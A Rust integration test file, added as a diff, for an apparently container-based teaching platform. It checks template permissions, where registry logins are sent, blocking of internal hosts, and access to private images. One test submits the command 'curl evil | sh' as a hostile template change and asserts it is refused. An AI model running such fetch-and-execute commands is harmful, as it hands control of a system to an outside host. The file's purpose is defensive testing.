@@ -1,0 +1,389 @@
+//! What a hostile student or a careless teacher must not be able to do (docs/security.md lists
+//! each guarantee with the test here that holds it). Every refusal first shows that the thing
+//! refused is real.
+
+use std::sync::{Arc, Mutex};
+
+use berth::users::Role;
+use serde_json::{json, Value};
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+
+use crate::helpers::{spawn_app, spawn_app_with, TestApp, TestUser, Ws, IMAGE};
+use crate::registries::{
+    add_registry, docker_rmi, transfer, unique_repo, REGISTRY, REGISTRY_PASSWORD,
+};
+
+#[tokio::test]
+async fn a_template_is_changed_or_deleted_only_by_its_creator_or_an_admin() {
+    let app = spawn_app().await;
+    let owner = app.new_user_with_role(Role::Teacher).await;
+    let other = app.new_user_with_role(Role::Teacher).await;
+    let admin = app.new_user_with_role(Role::Admin).await;
+    let body = json!({"name": "lab1", "image": IMAGE, "run": {".sh": ["sh", "{file}"]}});
+    let made = app
+        .post("/api/v1/templates", Some(&owner.token), body)
+        .await;
+    assert_eq!(made.status(), 201);
+    let made: Value = made.json().await.unwrap();
+    assert_eq!(made["created_by"], owner.id.as_str());
+    let path = format!("/api/v1/templates/{}", made["id"].as_str().unwrap());
+    let patch = |token: &str, run: Value| {
+        app.http
+            .patch(app.url(&path))
+            .bearer_auth(token)
+            .json(&json!({"run": run}))
+            .send()
+    };
+
+    // The creator's own change goes through: the PATCH is real.
+    let own = patch(&owner.token, json!({".sh": ["sh", "-e", "{file}"]}))
+        .await
+        .unwrap();
+    assert_eq!(own.status(), 200);
+
+    // Another teacher may neither change what every workspace runs nor delete it.
+    let hostile = patch(&other.token, json!({".sh": ["sh", "-c", "curl evil | sh"]}))
+        .await
+        .unwrap();
+    assert_eq!(hostile.status(), 403);
+    let error: Value = hostile.json().await.unwrap();
+    assert_eq!(error["error"]["code"], "forbidden", "{error}");
+    let deleted = app.delete(&path, Some(&other.token)).await;
+    assert_eq!(deleted.status(), 403);
+    let listed: Value = app
+        .get("/api/v1/templates", Some(&other.token))
+        .await
+        .json()
+        .await
+        .unwrap();
+    let kept = listed
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|t| t["id"] == made["id"])
+        .expect("the template is still there");
+    assert_eq!(kept["run"][".sh"], json!(["sh", "-e", "{file}"]));
+
+    // An admin may change and delete anyone's; the creator stays the creator.
+    let by_admin = patch(&admin.token, json!({".sh": ["sh", "{file}"]}))
+        .await
+        .unwrap();
+    assert_eq!(by_admin.status(), 200);
+    let by_admin: Value = by_admin.json().await.unwrap();
+    assert_eq!(by_admin["created_by"], owner.id.as_str());
+    assert_eq!(app.delete(&path, Some(&admin.token)).await.status(), 204);
+}
+
+/// A server on loopback that answers every request as a registry wanting a login, and keeps
+/// each request's head: what the engine sent there.
+async fn recording_registry() -> (String, Arc<Mutex<Vec<String>>>) {
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let address = listener.local_addr().unwrap().to_string();
+    let seen = Arc::new(Mutex::new(Vec::new()));
+    let kept = seen.clone();
+    tokio::spawn(async move {
+        while let Ok((mut socket, _)) = listener.accept().await {
+            let kept = kept.clone();
+            tokio::spawn(async move {
+                let mut head = vec![0u8; 8192];
+                let n = socket.read(&mut head).await.unwrap_or(0);
+                kept.lock()
+                    .unwrap()
+                    .push(String::from_utf8_lossy(&head[..n]).into_owned());
+                let _ = socket
+                    .write_all(
+                        b"HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"r\"\r\n\
+                          Docker-Distribution-API-Version: registry/2.0\r\n\
+                          Content-Length: 0\r\nConnection: close\r\n\r\n",
+                    )
+                    .await;
+            });
+        }
+    });
+    (address, seen)
+}
+
+/// The error a pull of `image` (naming `registry`, if any) ends with.
+async fn pull_error(ws: &mut Ws, stream: u8, image: &str, registry: Option<&str>) -> Value {
+    let mut request = json!({"type": "pull", "stream": stream, "image": image});
+    if let Some(registry) = registry {
+        request["registry"] = json!(registry);
+    }
+    ws.send(request).await;
+    loop {
+        let message = ws.next_json().await;
+        if message["stream"] == stream && message["type"] != "started" {
+            assert_eq!(message["type"], "error", "{message}");
+            return message;
+        }
+    }
+}
+
+#[tokio::test]
+async fn a_registrys_login_is_sent_only_to_that_registry() {
+    let app = spawn_app().await;
+    let admin = app.new_user_with_role(Role::Admin).await;
+    let student = app.new_user().await;
+    let added = add_registry(&app, &admin, "school", REGISTRY_PASSWORD, true).await;
+    assert_eq!(added.status(), 201);
+    let (elsewhere, seen) = recording_registry().await;
+    let image = format!("{elsewhere}/x:1");
+
+    // The engine does reach that server when an admin pulls from it: a leak would show here.
+    let mut ws = app.ws(&admin.token).await;
+    pull_error(&mut ws, 1, &image, None).await;
+    let asked = seen.lock().unwrap().len();
+    assert!(asked > 0, "the engine never reached the recording server");
+
+    // Naming the shared registry for an image of another host is refused, for anyone.
+    for (user, stream) in [(&student, 2), (&admin, 3)] {
+        let mut ws = app.ws(&user.token).await;
+        let refused = pull_error(&mut ws, stream, &image, Some("school")).await;
+        assert_eq!(refused["code"], "bad_request", "{refused}");
+        assert!(
+            refused["message"]
+                .as_str()
+                .unwrap()
+                .contains("only sent to its own host"),
+            "{refused}"
+        );
+    }
+    let requests = seen.lock().unwrap().clone();
+    assert_eq!(requests.len(), asked, "the engine was sent there again");
+    for request in &requests {
+        assert!(
+            !request.to_ascii_lowercase().contains("authorization"),
+            "credentials reached another host: {request}"
+        );
+    }
+
+    // Its own host still gets it: the registry is asked, with the login, and answers.
+    let mut ws = app.ws(&student.token).await;
+    let own = format!("{REGISTRY}/berth-test/absent:1");
+    let answer = pull_error(&mut ws, 4, &own, Some("school")).await;
+    assert!(
+        answer["message"]
+            .as_str()
+            .unwrap()
+            .contains("manifest unknown"),
+        "{answer}"
+    );
+}
+
+#[tokio::test]
+async fn the_engine_is_sent_only_to_hosts_an_admin_vouched_for() {
+    let (vouched, vouched_seen) = recording_registry().await;
+    let app = spawn_app_with(|s| s.registries.allowed_hosts = vec![vouched.clone()]).await;
+    let admin = app.new_user_with_role(Role::Admin).await;
+    let teacher = app.new_user_with_role(Role::Teacher).await;
+    let student = app.new_user().await;
+    let added = add_registry(&app, &admin, "school", REGISTRY_PASSWORD, true).await;
+    assert_eq!(added.status(), 201);
+    let (internal, seen) = recording_registry().await;
+    let port = internal.rsplit_once(':').unwrap().1.to_string();
+
+    // Real: an admin's pull reaches the internal server.
+    let mut ws = app.ws(&admin.token).await;
+    pull_error(&mut ws, 1, &format!("{internal}/x:1"), None).await;
+    let asked = seen.lock().unwrap().len();
+    assert!(asked > 0, "the engine never reached the internal server");
+
+    for user in [&student, &teacher] {
+        let mut ws = app.ws(&user.token).await;
+        for (stream, image, registry) in [
+            (2, format!("{internal}/x:1"), None),
+            (3, format!("Localhost:{port}/x:1"), None),
+            (4, format!("localhost:{port}/x"), None),
+        ] {
+            let refused = pull_error(&mut ws, stream, &image, registry).await;
+            assert_eq!(refused["code"], "forbidden", "{image}: {refused}");
+        }
+        // The reference grammar has no IPv6 hosts: not a name at all.
+        let refused = pull_error(&mut ws, 5, &format!("[::1]:{port}/x:1"), None).await;
+        assert_eq!(refused["code"], "bad_request", "{refused}");
+        // Naming a registry an admin added does not open another host.
+        let refused = pull_error(&mut ws, 6, &format!("{internal}/x:1"), Some("school")).await;
+        assert_ne!(refused["code"], "not_found", "{refused}");
+        // Nor does a container made from such an image.
+        let created = app
+            .post(
+                "/api/v1/containers",
+                Some(&user.token),
+                json!({"image": format!("{internal}/x:1"), "cmd": ["true"]}),
+            )
+            .await;
+        assert_eq!(created.status(), 403);
+    }
+    assert_eq!(
+        seen.lock().unwrap().len(),
+        asked,
+        "the engine went there for a non-admin"
+    );
+
+    // A host the admin listed is reached for a student.
+    let mut ws = app.ws(&student.token).await;
+    pull_error(&mut ws, 7, &format!("{vouched}/x:1"), None).await;
+    assert!(!vouched_seen.lock().unwrap().is_empty());
+}
+
+/// An image of its own content (a file only it has, on top of the test image), so that where
+/// it came from is its own and not busybox's.
+fn unique_image(tag: &str) {
+    let name = format!("mk-{}", &uuid::Uuid::new_v4().simple().to_string()[..8]);
+    let run = std::process::Command::new("docker")
+        .args(["run", "--name", &name, IMAGE, "sh", "-c"])
+        .arg(format!("echo {name} > /marker"))
+        .output()
+        .unwrap();
+    assert!(run.status.success(), "{run:?}");
+    let commit = std::process::Command::new("docker")
+        .args([
+            "commit",
+            "--change",
+            "ENV SECRET_TOKEN=only-for-staff",
+            &name,
+            tag,
+        ])
+        .output()
+        .unwrap();
+    assert!(commit.status.success(), "{commit:?}");
+    let _ = std::process::Command::new("docker")
+        .args(["rm", "-f", &name])
+        .output();
+}
+
+async fn create(app: &TestApp, user: &TestUser, image: &str) -> reqwest::Response {
+    app.post(
+        "/api/v1/containers",
+        Some(&user.token),
+        json!({"image": image, "cmd": ["true"]}),
+    )
+    .await
+}
+
+#[tokio::test]
+async fn an_image_of_a_private_registry_is_used_only_by_those_who_may_use_its_login() {
+    let app = spawn_app().await;
+    let admin = app.new_user_with_role(Role::Admin).await;
+    let teacher = app.new_user_with_role(Role::Teacher).await;
+    let student = app.new_user().await;
+    // The admin's own registry, not shared.
+    let added = add_registry(&app, &admin, "vault", REGISTRY_PASSWORD, false).await;
+    assert_eq!(added.status(), 201);
+    let repo = unique_repo();
+    let local = format!("{repo}:1");
+    let private = format!("{REGISTRY}/{repo}:1");
+    let renamed = format!("{repo}-renamed:1");
+    unique_image(&local);
+    for name in [&local, &private, &renamed] {
+        app.track_image(name);
+    }
+    let mut ws = app.ws(&admin.token).await;
+    ws.send(json!({"type": "push", "stream": 1, "image": local, "registry": "vault"}))
+        .await;
+    transfer(&mut ws, 1).await;
+    docker_rmi(&private);
+    docker_rmi(&local);
+    ws.send(json!({"type": "pull", "stream": 2, "image": private, "registry": "vault"}))
+        .await;
+    transfer(&mut ws, 2).await;
+
+    // Real: the admin may make a container of it; it is on the engine.
+    let by_admin = app
+        .post(
+            "/api/v1/containers",
+            Some(&admin.token),
+            json!({"image": private, "cmd": ["true"]}),
+        )
+        .await;
+    assert_eq!(by_admin.status(), 201, "{}", by_admin.text().await.unwrap());
+    let body: Value = by_admin.json().await.unwrap();
+    app.track(body["id"].as_str().unwrap());
+
+    assert_eq!(create(&app, &student, &private).await.status(), 403);
+    assert_eq!(create(&app, &teacher, &private).await.status(), 403);
+    // A teacher cannot launder it under another name, nor take it away as a tar.
+    let tag = app
+        .post(
+            &format!("/api/v1/images/{private}/tag"),
+            Some(&teacher.token),
+            json!({"repo": format!("{repo}-renamed"), "tag": "1"}),
+        )
+        .await;
+    assert_eq!(tag.status(), 403);
+    let export = app
+        .get(
+            &format!("/api/v1/images/{private}/export"),
+            Some(&teacher.token),
+        )
+        .await;
+    assert_eq!(export.status(), 403);
+    // Renamed by the admin and its registry name removed, it is still the registry's.
+    let tag = app
+        .post(
+            &format!("/api/v1/images/{private}/tag"),
+            Some(&admin.token),
+            json!({"repo": format!("{repo}-renamed"), "tag": "1"}),
+        )
+        .await;
+    assert_eq!(tag.status(), 200);
+    docker_rmi(&private);
+    let refused = create(&app, &student, &renamed).await;
+    assert_eq!(refused.status(), 403);
+    let refused: Value = refused.json().await.unwrap();
+    assert!(
+        refused["error"]["message"]
+            .as_str()
+            .unwrap()
+            .contains("private registry"),
+        "{refused}"
+    );
+
+    // Students see no environment of an image; staff do.
+    let details = format!("/api/v1/images/{renamed}");
+    let staff: Value = app
+        .get(&details, Some(&teacher.token))
+        .await
+        .json()
+        .await
+        .unwrap();
+    let env = staff["config"]["env"].to_string();
+    assert!(env.contains("SECRET_TOKEN"), "{staff}");
+    let seen: Value = app
+        .get(&details, Some(&student.token))
+        .await
+        .json()
+        .await
+        .unwrap();
+    assert!(seen["config"]["env"].is_null(), "{seen}");
+    assert!(!seen.to_string().contains("only-for-staff"));
+
+    // Through a template the admin made, a student gets a workspace of it.
+    let template = app
+        .post(
+            "/api/v1/templates",
+            Some(&admin.token),
+            json!({"name": format!("vault-{}", &repo[repo.len() - 8..]), "image": renamed,
+                   "run": {".sh": ["sh", "{file}"]}}),
+        )
+        .await;
+    assert_eq!(template.status(), 201);
+    let template: Value = template.json().await.unwrap();
+    let workspace = app
+        .post(
+            "/api/v1/workspaces",
+            Some(&student.token),
+            json!({"template": template["id"]}),
+        )
+        .await;
+    assert_eq!(
+        workspace.status(),
+        201,
+        "{}",
+        workspace.text().await.unwrap()
+    );
+    let workspace: Value = workspace.json().await.unwrap();
+    let id = workspace["id"].as_str().unwrap();
+    app.track(&format!("berth-ws-{id}"));
+    app.track_volume(&format!("berth-ws-{id}"));
+}
